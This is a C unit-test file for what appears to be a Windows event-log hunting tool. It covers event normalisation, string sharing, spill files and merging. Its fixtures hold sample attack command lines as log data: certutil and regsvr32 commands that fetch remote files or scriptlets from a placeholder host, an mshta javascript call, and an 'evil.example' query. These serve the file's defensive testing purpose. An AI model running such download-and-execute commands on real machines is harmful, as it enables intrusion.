	ev_buf_reset(&b);
	report_html_str(&b, esc_cases[_i].in);
	ck_assert_msg(strcmp(b.buf, esc_cases[_i].html) == 0,
	    "%s: html '%s'", esc_cases[_i].name, b.buf);
	ev_buf_release(&b);
}
END_TEST

/* ---- normalisation ---- */

static struct ev_arena norm_arena;

static void
norm_setup(void)
{
	ev_arena_init(&norm_arena);
}

static void
norm_teardown(void)
{
	ev_arena_release(&norm_arena);
	ck_assert_ptr_null(norm_arena.head);
}

static void
record(struct ev_record *r, const char *provider, uint32_t id,
    const struct ev_pair *data, uint32_t n)
{
	memset(r, 0, sizeof(*r));
	r->provider = provider;
	r->event_id = id;
	r->kind = ev_classify(provider, strlen(provider), id);
	r->computer = "WKS01.corp.local";
	r->channel = "Security";
	r->record_id = 42;
	r->time = 132000000000000000ULL;
	r->data = data;
	r->ndata = n;
}

/* Shared System strings: stored once, the same event as a copy. */
START_TEST(test_norm_shared)
{
	static const struct ev_pair d[] = {
		{ "NewProcessName", "C:\\Windows\\System32\\cmd.exe" },
		{ "NewProcessId", "0x10" },
	};
	struct ev_record r;
	struct ev_event a, b, c, x;
	struct ev_shared sh;

	ev_shared_init(&sh);
	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
	r.user_sid = "S-1-5-18";
	ck_assert_int_eq(ev_normalise_shared(&r, &norm_arena, &sh, &a), 0);
	r.computer = "SRV02.corp.local";
	ck_assert_int_eq(ev_normalise_shared(&r, &norm_arena, &sh, &c), 0);
	r.computer = "WKS01.corp.local";
	ck_assert_int_eq(ev_normalise_shared(&r, &norm_arena, &sh, &b), 0);
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &x), 0);
	/* one copy of each distinct string, whatever the order */
	ck_assert_ptr_eq(ev_col(&a, EV_COL_COMPUTER), ev_col(&b,
	    EV_COL_COMPUTER));
	ck_assert_ptr_eq(ev_col(&a, EV_COL_CHANNEL), ev_col(&b,
	    EV_COL_CHANNEL));
	ck_assert_ptr_eq(ev_col(&a, EV_COL_PROVIDER), ev_col(&c,
	    EV_COL_PROVIDER));
	ck_assert_ptr_eq(a.user_sid, b.user_sid);
	ck_assert_ptr_ne(ev_col(&a, EV_COL_COMPUTER), ev_col(&x,
	    EV_COL_COMPUTER));
	ck_assert_str_eq(ev_col(&c, EV_COL_COMPUTER), "SRV02.corp.local");
	ck_assert_uint_eq(sh.map.n, 5);
	for (int k = 0; k < EV_NCOL; k++)
		if (ev_col(&x, k) == NULL)
			ck_assert_ptr_null(ev_col(&b, k));
		else
			ck_assert_str_eq(ev_col(&b, k), ev_col(&x, k));
	ck_assert_str_eq(b.user_sid, x.user_sid);
	ev_shared_release(&sh);
}
END_TEST

/*
 * EventData values stored once (ev_shared.values): a repeated value is
 * one string, short values and timestamps are copied, the event is the
 * same as a copy, and the store grows and empties.
 */
START_TEST(test_norm_shared_values)
{
	static const struct ev_pair d[] = {
		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
		{ "ProcessId", "4242" },
		{ "Image", "C:\\Windows\\System32\\rundll32.exe" },
		{ "ImageLoaded", "C:\\Windows\\System32\\scrobj.dll" },
		{ "UtcTime", "2024-03-07 09:00:00.123" },
		{ "Hashes", "SHA256=0000000000000000000000000000000000000000000"
		    "000000000000000000000" },
	};
	struct ev_record r;
	struct ev_event a, b, x;
	struct ev_shared sh;
	char big[64];

	ev_shared_init(&sh);
	sh.values = true;
	record(&r, EV_PROVIDER_SYSMON, 7, d, NELEM(d));
	ck_assert_int_eq(ev_normalise_shared(&r, &norm_arena, &sh, &a), 0);
	ck_assert_int_eq(ev_normalise_shared(&r, &norm_arena, &sh, &b), 0);
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &x), 0);
	/* guid, image, dll, hashes and the sha256 split from them */
	ck_assert_uint_eq(sh.vn, 5);
	ck_assert_ptr_eq(ev_col(&a, EV_COL_SHA256), ev_col(&b,
	    EV_COL_SHA256));
	ck_assert_ptr_eq(a.data[0].value, b.data[0].value);
	ck_assert_ptr_eq(ev_col(&a, EV_COL_IMAGE), ev_col(&b, EV_COL_IMAGE));
	ck_assert_ptr_eq(ev_col(&a, EV_COL_IMAGE), a.data[2].value);
	ck_assert_ptr_ne(a.data[1].value, b.data[1].value);	/* short */
	ck_assert_ptr_ne(a.data[4].value, b.data[4].value);	/* a time */
	for (uint32_t i = 0; i < NELEM(d); i++) {
		ck_assert_str_eq(a.data[i].name, x.data[i].name);
		ck_assert_str_eq(a.data[i].value, x.data[i].value);
		ck_assert_uint_eq(a.dlen[i], x.dlen[i]);
	}
	for (int k = 0; k < EV_NCOL; k++)
		if (ev_col(&x, k) == NULL)
			ck_assert_ptr_null(ev_col(&a, k));
		else
			ck_assert_str_eq(ev_col(&a, k), ev_col(&x, k));
	/* thousands of distinct values: the table grows, all found again */
	for (int i = 0; i < 5000; i++) {
		snprintf(big, sizeof(big), "C:\\Tools\\tool%05d.exe", i);
		ck_assert_str_eq(ev_shared_value(&sh, big, strlen(big)), big);
	}
	ck_assert_uint_eq(sh.vn, 5005);
	snprintf(big, sizeof(big), "C:\\Tools\\tool%05d.exe", 1234);
	ck_assert_ptr_eq(ev_shared_value(&sh, big, strlen(big)),
	    ev_shared_value(&sh, big, strlen(big)));
	ck_assert_uint_eq(sh.vn, 5005);
	ck_assert_uint_gt(ev_shared_value_bytes(&sh), 5000 * 20);
	ev_shared_reset_values(&sh);
	ck_assert_uint_eq(ev_shared_value_bytes(&sh), 0);
	ck_assert_uint_eq(sh.vn, 0);
	ev_shared_release(&sh);
}
END_TEST

/*
 * ev_event_keep: a copy that outlives the arena the event was normalised
 * into; its data and hits with it, or no data at all.
 */
START_TEST(test_event_keep)
{
	static const struct ev_pair d[] = {
		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
		{ "ProcessId", "0x10" },
		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
		{ "QueryName", "evil.example" },
	};
	static const uint32_t hits[] = { 3, 7 };
	struct ev_arena tmp, keep;
	struct ev_record r;
	struct ev_event e, whole, stub;
	struct ev_shared sh;

	ev_arena_init(&tmp);
	ev_arena_init(&keep);
	ev_shared_init(&sh);
	record(&r, EV_PROVIDER_SYSMON, 22, d, NELEM(d));
	r.kind = EV_KIND_GENERIC;
	ck_assert_int_eq(ev_normalise_shared(&r, &tmp, &sh, &e), 0);
	e.hits = hits;
	e.nhits = NELEM(hits);
	ck_assert_int_eq(ev_event_keep(&whole, &e, true, &keep, NULL), 0);
	ck_assert_int_eq(ev_event_keep(&stub, &e, false, &keep, NULL), 0);
	ev_arena_release(&tmp);		/* e's strings are gone */
	ck_assert_uint_eq(whole.ndata, NELEM(d));
	for (uint32_t i = 0; i < NELEM(d); i++) {
		ck_assert_str_eq(whole.data[i].name, d[i].name);
		ck_assert_str_eq(whole.data[i].value, d[i].value);
		ck_assert_uint_eq(whole.dlen[i], strlen(d[i].value));
	}
	ck_assert_str_eq(ev_data(&whole, "QueryName"), "evil.example");
	/* a column taken from the data is the copied value itself */
	ck_assert_ptr_eq(ev_col(&whole, EV_COL_IMAGE), whole.data[2].value);
	ck_assert_str_eq(ev_col(&whole, EV_COL_PID), "16");
	ck_assert_uint_eq(whole.nhits, 2);
	ck_assert_uint_eq(whole.hits[1], 7);
	ck_assert_ptr_ne(whole.hits, hits);
	ck_assert_uint_eq(stub.ndata, 0);
	ck_assert_ptr_null(stub.data);
	ck_assert_ptr_null(ev_data(&stub, "QueryName"));
	ck_assert_str_eq(ev_col(&stub, EV_COL_IMAGE), d[2].value);
	ck_assert_str_eq(ev_col(&stub, EV_COL_PROCESS_GUID), d[0].value);
	ck_assert_str_eq(ev_col(&stub, EV_COL_COMPUTER), "WKS01.corp.local");
	ck_assert_uint_eq(stub.record_id, 42);
	ck_assert_uint_eq(stub.kind, EV_KIND_GENERIC);
	ev_arena_release(&keep);
	ev_shared_release(&sh);
}
END_TEST

/* Events through a spill file and back, and the merge of two runs. */
START_TEST(test_spill)
{
	static const struct ev_pair d[] = {
		{ "ProcessGuid", "{11111111-2222-3333-4444-555555555555}" },
		{ "ProcessId", "0x10" },
		{ "Image", "C:\\Windows\\System32\\certutil.exe" },
		{ "CommandLine", "certutil -urlcache -f http://x/a a.exe" },
		{ "", "unnamed" },
	};
	static const uint32_t hits[] = { 3, 7 };
	const char *dir = getenv("TMPDIR") ? getenv("TMPDIR") : "/tmp";
	struct ev_arena a;
	struct ev_record r;
	struct ev_event e[3];
	struct ev_spill sp, out;
	struct ev_spill_rd rd;
	struct ev_spill_run in[2];
	struct ev_spill_counts c = { 0 };
	uint64_t events[2] = { 0 }, dups[2] = { 0 }, mid;
	struct ev_err err = EV_ERR_INIT;

	ev_arena_init(&a);
	record(&r, EV_PROVIDER_SYSMON, 1, d, NELEM(d));
	r.user_sid = "S-1-5-18";
	ck_assert_int_eq(ev_normalise(&r, &a, &e[0]), 0);
	e[0].hits = hits;
	e[0].nhits = NELEM(hits);
	e[0].dup_record = 99;
	/* the same record recovered from file 1, and a later one */
	e[1] = e[0];
	e[1].recovered = true;
	e[1].file_id = 1;
	e[1].hits = NULL;
	e[1].nhits = 0;
	e[2] = e[0];
	e[2].time++;
	e[2].user_sid = NULL;
	ck_assert_int_eq(ev_col_set(&e[2], EV_COL_COMMAND_LINE,
	    "not a data value", &a), 0);
	/* the copies' columns are their own */
	ck_assert_str_ne(ev_col(&e[0], EV_COL_COMMAND_LINE),
	    "not a data value");
	ck_assert_ptr_eq(ev_col(&e[2], EV_COL_IMAGE),
	    ev_col(&e[0], EV_COL_IMAGE));
	ck_assert_int_eq(ev_spill_open(&sp, dir, &err), 0);
	ck_assert_int_eq(ev_spill_put(&sp, &e[0], &err), 0);
	ck_assert_int_eq(ev_spill_put(&sp, &e[2], &err), 0);
	ck_assert_int_eq(ev_spill_flush(&sp, &err), 0);
	mid = sp.size;
	ck_assert_int_eq(ev_spill_put(&sp, &e[1], &err), 0);
	ck_assert_int_eq(ev_spill_flush(&sp, &err), 0);

	/* read back: every field, a column that was a data value is one */
	ev_spill_rd_init(&rd, &sp, 0, mid);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
	ck_assert_uint_eq(rd.ev->time, e[0].time);
	ck_assert_uint_eq(rd.ev->record_id, 42);
	ck_assert_uint_eq(rd.ev->dup_record, 99);
	ck_assert_uint_eq(rd.ev->kind, EV_KIND_PROCESS);
	ck_assert_uint_eq(rd.ev->nhits, 2);
	ck_assert_uint_eq(rd.ev->hits[1], 7);
	ck_assert_str_eq(rd.ev->user_sid, "S-1-5-18");
	ck_assert_uint_eq(rd.ev->ndata, NELEM(d));
	for (int i = 0; i < EV_NCOL; i++) {
		if (ev_col(&e[0], i) == NULL)
			ck_assert_ptr_null(ev_col(rd.ev, i));
		else
			ck_assert_str_eq(ev_col(rd.ev, i), ev_col(&e[0], i));
	}
	for (uint32_t i = 0; i < NELEM(d); i++) {
		ck_assert_str_eq(rd.ev->data[i].name, d[i].name);
		ck_assert_str_eq(rd.ev->data[i].value, d[i].value);
		ck_assert_uint_eq(rd.ev->dlen[i], strlen(d[i].value));
	}
	ck_assert_ptr_eq(ev_col(rd.ev, EV_COL_IMAGE), rd.ev->data[2].value);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
	ck_assert_str_eq(ev_col(rd.ev, EV_COL_COMMAND_LINE),
	    "not a data value");
	ck_assert_ptr_null(rd.ev->user_sid);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 0);
	ev_spill_rd_release(&rd);

	/* two runs merged: the recovered copy is a duplicate */
	in[0].sp = in[1].sp = &sp;
	in[0].from = 0;
	in[0].to = in[1].from = mid;
	in[1].to = sp.size;
	c.events = events;
	c.duplicates = dups;
	c.nfiles = 2;
	ck_assert_int_eq(ev_spill_open(&out, dir, &err), 0);
	ck_assert_int_eq(ev_spill_merge(in, 2, &out, &c, &err), 0);
	ck_assert_uint_eq(c.kept, 2);
	ck_assert_uint_eq(c.dropped, 1);
	ck_assert_uint_eq(events[0], 2);
	ck_assert_uint_eq(dups[1], 1);
	ev_spill_rd_init(&rd, &out, 0, out.size);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
	ck_assert(!rd.ev->recovered);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 1);
	ck_assert_uint_eq(rd.ev->time, e[2].time);
	ck_assert_int_eq(ev_spill_next(&rd, &err), 0);
	ev_spill_rd_release(&rd);
	ev_spill_close(&out);
	ev_spill_close(&sp);

	/* a directory that is not there is named */
	ck_assert_int_eq(ev_spill_open(&sp, "/nonexistent-evtxhunt-dir",
	    &err), EV_EIO);
	ck_assert_ptr_nonnull(strstr(err.msg, "'/nonexistent-evtxhunt-dir'"));
	ev_spill_close(&sp);
	ev_arena_release(&a);
}
END_TEST

START_TEST(test_classify)
{
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
	    strlen(EV_PROVIDER_SECURITY), 4688), EV_KIND_PROCESS);
	ck_assert_int_eq(ev_classify("microsoft-windows-security-auditing",
	    35, 4688), EV_KIND_PROCESS);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 4688), EV_KIND_NONE);
	ck_assert_int_eq(ev_classify("Fake-Provider", 13, 4688), EV_KIND_NONE);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 1), EV_KIND_PROCESS);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 3), EV_KIND_NETWORK);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 7), EV_KIND_IMAGE_LOAD);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 11), EV_KIND_FILE);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 12), EV_KIND_REGISTRY);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SYSMON,
	    strlen(EV_PROVIDER_SYSMON), 16), EV_KIND_NONE);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
	    strlen(EV_PROVIDER_SECURITY), 4624), EV_KIND_NONE);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_EVENTLOG,
	    strlen(EV_PROVIDER_EVENTLOG), 1102), EV_KIND_LOG_CLEAR);
	ck_assert_int_eq(ev_classify(EV_PROVIDER_SECURITY,
	    strlen(EV_PROVIDER_SECURITY), 4689), EV_KIND_PROCESS_EXIT);
}
END_TEST

START_TEST(test_norm_4688_v2)
{
	static const struct ev_pair d[] = {
		{ "SubjectUserSid", "S-1-5-18" },
		{ "SubjectUserName", "WKS01$" },
		{ "SubjectDomainName", "CORP" },
		{ "SubjectLogonId", "0x3e7" },
		{ "NewProcessId", "0x1a4" },
		{ "NewProcessName", "C:\\Windows\\System32\\mshta.exe" },
		{ "TokenElevationType", "%%1936" },
		{ "ProcessId", "0xd50" },
		{ "CommandLine", "mshta.exe javascript:a" },
		{ "TargetUserSid", "S-1-5-21-1-2-3-1001" },
		{ "TargetUserName", "alice" },
		{ "TargetDomainName", "CORP" },
		{ "TargetLogonId", "0x5c3f1" },
		{ "ParentProcessName", "C:\\Windows\\explorer.exe" },
		{ "MandatoryLabel", "S-1-16-12288" },
	};
	struct ev_record r;
	struct ev_event ev;

	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
	r.version = 2;
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
	ck_assert_str_eq(ev_col(&ev, EV_COL_IMAGE),
	    "C:\\Windows\\System32\\mshta.exe");
	ck_assert_str_eq(ev_col(&ev, EV_COL_PID), "420");
	ck_assert_str_eq(ev_col(&ev, EV_COL_PARENT_PID), "3408");
	ck_assert_str_eq(ev_col(&ev, EV_COL_USER), "CORP\\alice");
	ck_assert_str_eq(ev_col(&ev, EV_COL_INTEGRITY_LEVEL), "High");
	ck_assert_str_eq(ev_col(&ev, EV_COL_LOGON_ID), "0x3e7");
	ck_assert_str_eq(ev_col(&ev, EV_COL_PARENT_IMAGE),
	    "C:\\Windows\\explorer.exe");
	ck_assert_str_eq(ev_col(&ev, EV_COL_COMMAND_LINE),
	    "mshta.exe javascript:a");
	ck_assert_ptr_null(ev_col(&ev, EV_COL_ORIGINAL_FILE_NAME));
	ck_assert_uint_eq(ev.ndata, NELEM(d));
	ck_assert_ptr_nonnull(ev.dlen);
	for (uint32_t i = 0; i < ev.ndata; i++)
		ck_assert_uint_eq(ev.dlen[i], strlen(ev.data[i].value));
	ck_assert_str_eq(ev_data(&ev, "TokenElevationType"), "%%1936");
	ck_assert_int_eq(ev.kind, EV_KIND_PROCESS);
	ck_assert_uint_eq(ev.version, 2);
}
END_TEST

START_TEST(test_norm_4688_v0_system)
{
	static const struct ev_pair d[] = {
		{ "SubjectUserSid", "S-1-5-18" },
		{ "SubjectUserName", "WKS01$" },
		{ "SubjectDomainName", "CORP" },
		{ "SubjectLogonId", "0x3e7" },
		{ "NewProcessId", "0x1a4" },
		{ "NewProcessName", "C:\\Windows\\System32\\svchost.exe" },
		{ "TokenElevationType", "%%1936" },
		{ "ProcessId", "0x2c8" },
	};
	struct ev_record r;
	struct ev_event ev;

	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
	/* a well-known SID is spelled as Sysmon does */
	ck_assert_str_eq(ev_col(&ev, EV_COL_USER), "NT AUTHORITY\\SYSTEM");
	ck_assert_ptr_null(ev_col(&ev, EV_COL_COMMAND_LINE));
	ck_assert_ptr_null(ev_col(&ev, EV_COL_INTEGRITY_LEVEL));
	ck_assert_ptr_null(ev_col(&ev, EV_COL_PARENT_IMAGE));
}
END_TEST

START_TEST(test_norm_4688_null_target)
{
	static const struct ev_pair d[] = {
		{ "SubjectUserSid", "S-1-5-21-1-2-3-1001" },
		{ "SubjectUserName", "bob" },
		{ "SubjectDomainName", "CORP" },
		{ "NewProcessId", "0x10" },
		{ "NewProcessName", "C:\\x.exe" },
		{ "TargetUserSid", "S-1-0-0" },
		{ "TargetUserName", "-" },
		{ "TargetDomainName", "-" },
		{ "MandatoryLabel", "S-1-16-8192" },
	};
	struct ev_record r;
	struct ev_event ev;

	record(&r, EV_PROVIDER_SECURITY, 4688, d, NELEM(d));
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
	ck_assert_str_eq(ev_col(&ev, EV_COL_USER), "CORP\\bob");
	ck_assert_str_eq(ev_col(&ev, EV_COL_INTEGRITY_LEVEL), "Medium");
	ck_assert_str_eq(ev_col(&ev, EV_COL_PID), "16");
}
END_TEST

START_TEST(test_norm_sysmon)
{
	static const struct ev_pair p[] = {
		{ "RuleName", "" },
		{ "UtcTime", "2019-03-04 11:22:33.123" },
		{ "ProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000001}" },
		{ "ProcessId", "4242" },
		{ "Image", "C:\\Windows\\System32\\regsvr32.exe" },
		{ "OriginalFileName", "REGSVR32.EXE" },
		{ "CommandLine", "regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll" },
		{ "User", "CORP\\alice" },
		{ "IntegrityLevel", "Medium" },
		{ "Hashes", "SHA1=AA,MD5=BB,SHA256=CC,IMPHASH=DD" },
		{ "ParentProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000000}" },
		{ "ParentProcessId", "100" },
		{ "ParentImage", "C:\\Windows\\explorer.exe" },
	};
	static const struct ev_pair n[] = {
		{ "ProcessGuid", "{A1B2C3D4-0000-0000-0000-000000000001}" },
		{ "Image", "C:\\Windows\\System32\\regsvr32.exe" },
		{ "Protocol", "tcp" },
		{ "Initiated", "true" },
		{ "SourceIp", "10.0.0.5" },
		{ "SourcePort", "50123" },
		{ "DestinationIp", "203.0.113.9" },
		{ "DestinationPort", "443" },
		{ "DestinationPortName", "https" },
	};
	struct ev_record r;
	struct ev_event ev;

	record(&r, EV_PROVIDER_SYSMON, 1, p, NELEM(p));
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
	ck_assert_str_eq(ev_col(&ev, EV_COL_PID), "4242");
	ck_assert_str_eq(ev_col(&ev, EV_COL_PARENT_PID), "100");
	ck_assert_str_eq(ev_col(&ev, EV_COL_ORIGINAL_FILE_NAME),
	    "REGSVR32.EXE");
	ck_assert_str_eq(ev_col(&ev, EV_COL_MD5), "BB");
	ck_assert_str_eq(ev_col(&ev, EV_COL_SHA1), "AA");
	ck_assert_str_eq(ev_col(&ev, EV_COL_SHA256), "CC");
	ck_assert_str_eq(ev_col(&ev, EV_COL_IMPHASH), "DD");
	ck_assert_str_eq(ev_col(&ev, EV_COL_USER), "CORP\\alice");

	record(&r, EV_PROVIDER_SYSMON, 3, n, NELEM(n));
	ck_assert_int_eq(ev_normalise(&r, &norm_arena, &ev), 0);
	ck_assert_int_eq(ev.kind, EV_KIND_NETWORK);
	ck_assert_str_eq(ev_col(&ev, EV_COL_INITIATED), "1");
	ck_assert_str_eq(ev_col(&ev, EV_COL_DST_PORT), "443");
	ck_assert_str_eq(ev_col(&ev, EV_COL_DST_IP), "203.0.113.9");
	ck_assert_ptr_null(ev_col(&ev, EV_COL_COMMAND_LINE));
}
END_TEST

/* ---- merging the reading threads' events ---- */

enum { MSH = 3, MN = 40000, MNF = 5 };

static int
order_qcmp(const void *a, const void *b)
{
	return ev_order_cmp(*(struct ev_event *const *)a,
	    *(struct ev_event *const *)b);
}

/*
 * Three shards' sorted events, as reading threads leave them: times in
 * runs (one of 400 events of a time, past the linear look-up), and
 * copies of shard 0's records in shards 1 and 2, some recovered, some
 * the allocated record of a recovered one.  offset: which event it is.
 */
static void
merge_shards_make(struct ev_arena *a, struct ev_event **sh[MSH])
{
	const char *cols[EV_NCOL] = { NULL };

	cols[EV_COL_COMPUTER] = "host";
	cols[EV_COL_CHANNEL] = "Security";
	for (int k = 0; k < MSH; k++) {
		ck_assert((sh[k] = malloc(MN * sizeof(*sh[k]))) != NULL);
		for (int i = 0; i < MN; i++) {
			struct ev_event *e = ev_arena_calloc(a, sizeof(*e));
			int copy = k > 0 && i % (3 + k) == 0;

			ck_assert(e != NULL);
			ck_assert_int_eq(ev_cols_pack(e, cols, a), 0);
			e->time = i >= 20000 && i < 20400 ? 20000 :
			    (uint64_t)(i / 9) * 9;
			e->record_id = k == 0 || copy ? (uint64_t)i :
			    (uint64_t)k * 1000000 + (uint64_t)i;
			e->event_id = 4688;
			e->file_id = (uint32_t)((i + k) % MNF);
			e->recovered = copy ? k == 1 : i % 11 == 0;
			e->offset = (uint64_t)k * MN + (uint64_t)i;
			sh[k][i] = e;
		}
		qsort(sh[k], MN, sizeof(*sh[k]), order_qcmp);
	}
}

/*
 * ingest_merge() in parts by time on several threads keeps the events,
 * their order, the duplicates and the files' counts that one thread
 * keeps.
 */
START_TEST(test_merge_parts)
{
	struct ev_arena a[2] = { EV_ARENA_INIT, EV_ARENA_INIT };
	struct ev_event **sh[2][MSH];
	struct ingest_run run[2];
	size_t n[MSH] = { MN, MN, MN };
	static const unsigned jobs[2] = { 1, 3 };

	for (int r = 0; r < 2; r++) {
		memset(&run[r], 0, sizeof(run[r]));
		run[r].nfiles = MNF;
		ck_assert((run[r].files = calloc(MNF, sizeof(*run[r].files)))
		    != NULL);
		merge_shards_make(&a[r], sh[r]);
		ck_assert_int_eq(ingest_merge(&run[r],
		    (struct ev_event *const *const *)sh[r], n, MSH, jobs[r]),
		    0);
	}
	ck_assert_uint_gt(run[0].duplicates, 10000);
	ck_assert_uint_eq(run[1].duplicates, run[0].duplicates);
	ck_assert_uint_eq(run[1].nevents, run[0].nevents);
	ck_assert_uint_eq(run[0].nevents + run[0].duplicates, MSH * MN);
	for (size_t i = 0; i < run[0].nevents; i++) {
		ck_assert_uint_eq(run[1].events[i]->offset,
		    run[0].events[i]->offset);
		ck_assert_uint_eq(run[1].events[i]->seq, i);
		ck_assert_uint_eq(run[0].events[i]->seq, i);
	}
	for (int f = 0; f < MNF; f++) {
		ck_assert_uint_eq(run[1].files[f].events,
		    run[0].files[f].events);
		ck_assert_uint_eq(run[1].files[f].duplicates,
		    run[0].files[f].duplicates);
	}
	for (int r = 0; r < 2; r++) {
		for (int k = 0; k < MSH; k++)
			free(sh[r][k]);
		ev_big_free(run[r].events);
		free(run[r].files);
		ev_arena_release(&a[r]);
	}
}
END_TEST

static Suite *
core_suite(void)
{
	Suite *s = suite_create("core");
	TCase *tc;

	tc = tcase_create("time");
	tcase_add_loop_test(tc, test_time_roundtrip, 0, NELEM(time_cases));
	tcase_add_test(tc, test_time_fields);
	tcase_add_test(tc, test_time_end);
	tcase_add_test(tc, test_time_zone);
	suite_add_tcase(s, tc);

	tc = tcase_create("memory");
	tcase_add_test(tc, test_buf);
	tcase_add_test(tc, test_buf_lower);
	tcase_add_test(tc, test_buf_addf);
	tcase_add_test(tc, test_grow);
	tcase_add_test(tc, test_arena);
	tcase_add_test(tc, test_arena_pool);
	tcase_add_test(tc, test_arena_pool_file);
	tcase_add_test(tc, test_big_file);
	tcase_add_test(tc, test_pool_advise);
	tcase_add_test(tc, test_table);
	tcase_add_test(tc, test_par_threads);
	tcase_add_test(tc, test_cols_offsets);
	tcase_add_test(tc, test_parse_numbers);
	tcase_add_test(tc, test_basename);
	tcase_add_test(tc, test_json_strv);
	tcase_add_test(tc, test_sha256);
	suite_add_tcase(s, tc);

	tc = tcase_create("merge");
	tcase_add_test(tc, test_merge_parts);
	suite_add_tcase(s, tc);

	tc = tcase_create("escape");
	tcase_add_loop_test(tc, test_escape, 0, NELEM(esc_cases));
	suite_add_tcase(s, tc);

	tc = tcase_create("normalise");
	tcase_add_checked_fixture(tc, norm_setup, norm_teardown);
	tcase_add_test(tc, test_classify);
	tcase_add_test(tc, test_norm_shared);
	tcase_add_test(tc, test_norm_shared_values);
	tcase_add_test(tc, test_event_keep);
	tcase_add_test(tc, test_spill);
	tcase_add_test(tc, test_norm_4688_v2);
	tcase_add_test(tc, test_norm_4688_v0_system);
	tcase_add_test(tc, test_norm_4688_null_target);
	tcase_add_test(tc, test_norm_sysmon);
	suite_add_tcase(s, tc);
	return s;
}

int
main(void)
{
	SRunner *sr = srunner_create(core_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed == 0 ? 0 : 1;
}
